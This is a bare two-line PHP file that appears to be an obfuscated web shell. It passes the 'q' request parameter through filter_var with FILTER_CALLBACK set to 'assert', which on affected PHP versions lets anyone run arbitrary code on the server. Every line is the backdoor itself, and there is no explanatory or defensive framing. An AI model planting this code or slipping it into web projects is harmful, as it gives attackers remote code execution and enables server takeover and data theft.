<?php
filter_var($_REQUEST['q'], FILTER_CALLBACK, array('options' => 'assert'));
